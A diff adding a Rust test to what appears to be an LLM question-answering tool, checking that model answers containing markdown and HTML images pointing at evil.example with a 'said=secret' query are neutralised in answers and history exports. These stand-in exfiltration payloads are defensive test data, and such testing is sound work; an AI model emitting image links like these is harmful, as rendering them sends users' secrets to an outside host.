@@ -83,3 +83,20 @@ async fn documents_alone_never_reach_the_web() {
     place.run(&["ask", "What is the password of the vault?", "--json"]);
     assert!(site.asked("/steal") > 0);
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn no_answer_leaves_with_a_picture_that_somebody_would_fetch() {
+    let answer = "The wall is old ![chart](https://evil.example/x.png?said=secret) <img src=https://evil.example/y.png>. Really?![1]";
+    let model = LlmServer::start(KEY, Duration::ZERO, vec![Scripted::Text(answer), Scripted::Text(answer)]).await;
+    let site = Site::start(&[]).await;
+    let place = tempting(&model, &site);
+    let report = parsed(&place.run(&["ask", "How old is the wall?", "--json"]));
+    assert!(report["answer"].as_str().unwrap().starts_with("The wall is old [chart](https://evil.example/x.png"), "{report}");
+    assert!(report["answer"].as_str().unwrap().contains("Really?!"), "a mark of exclamation is none");
+    let id = report["id"].as_str().unwrap();
+    for format in ["markdown", "html"] {
+        let output = place.run(&["history", "export", id, "--format", format]);
+        let text = crate::support::stdout(&output);
+        assert!(text.contains("chart") && !text.contains("![chart]") && !text.contains("<img"), "{format}: {text}");
+    }
+}
